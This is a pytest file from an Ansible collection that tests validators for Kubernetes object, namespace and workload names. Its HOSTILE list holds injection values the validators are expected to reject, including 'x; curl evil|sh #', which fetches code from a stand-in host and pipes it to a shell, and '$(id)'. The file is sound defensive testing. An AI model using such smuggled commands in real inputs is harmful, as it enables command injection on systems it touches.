# Copyright (c) 2026, killinit.zot contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import pytest

from ansible_collections.killinit.zot.plugins.module_utils._cluster.errors import InvalidNameError
from ansible_collections.killinit.zot.plugins.module_utils._cluster.objects import (
    WorkloadName,
    is_name,
    namespace_name,
    object_name,
)

HOSTILE = ["x; curl evil|sh #", "$(id)", "a b", "a\nb", "a\n", "\x1b[2J", "a/b", "--all", "-a", "a'b", 'a"b', "é", ""]


@pytest.mark.parametrize("text", ["a", "a-1", "a.b", "0", "a" * 63, ".".join(["a" * 60] * 4)])
def test_names(text: str) -> None:
    assert is_name(text)
    assert object_name(text) == text


@pytest.mark.parametrize("text", [*HOSTILE, "A", "a_b", "a-", "a..b", ".a", "a.", "a" * 64, ".".join(["a" * 60] * 5)])
def test_no_names(text: str) -> None:
    assert not is_name(text)
    with pytest.raises(InvalidNameError):
        object_name(text)


@pytest.mark.parametrize("value", [None, 5, ["a"], {"a": 1}])
def test_other_values_are_no_names(value: object) -> None:
    assert not is_name(value)


@pytest.mark.parametrize(
    ("value", "problem"), [(5349, "the number 5349"), (False, "the boolean False"), (None, "null")]
)
def test_a_value_that_yaml_made_of_a_name_is_refused(value: object, problem: str) -> None:
    """0012345, no and an empty answer of AWX: as text they would be the names of other objects."""
    for read in (namespace_name, object_name):
        with pytest.raises(InvalidNameError, match=f"is {problem}, not text"):
            read(value)


@pytest.mark.parametrize("text", [*HOSTILE, "a.b", "A", "a" * 64])
def test_a_namespace_is_one_label(text: str) -> None:
    with pytest.raises(InvalidNameError, match="is not a valid name of a namespace"):
        namespace_name(text)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("deployment/app", "deployment/app"),
        ("Deployment/app", "deployment/app"),
        ("deploy/app", "deployment/app"),
        ("deployments.apps/app.v2", "deployment/app.v2"),
        ("sts/app", "statefulset/app"),
        ("DS/app", "daemonset/app"),
        ("CronJob/app", "cronjob/app"),
        ("cj/app", "cronjob/app"),
    ],
)
def test_workloads(text: str, name: str) -> None:
    assert str(WorkloadName.parse(text)) == name


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("app", "'app' does not name a kind: write it as deployment/app"),
        ("pod/app", "'pod' in 'pod/app' is not one of the kinds CronJob, DaemonSet, Deployment, StatefulSet"),
        ("/app", "'' in '/app' is not one of the kinds"),
        ("deployment/", "'' is not a valid name"),
        ("deployment/App", "'App' is not a valid name"),
        ("deployment/a/b", "'a/b' is not a valid name"),
        ("deployment/\x1b[2J", "'\\x1b[2J' is not a valid name"),
    ],
)
def test_no_workloads(text: str, message: str) -> None:
    """The message can be printed."""
    with pytest.raises(InvalidNameError) as caught:
        WorkloadName.parse(text)
    assert message in str(caught.value)
    assert str(caught.value).isprintable()
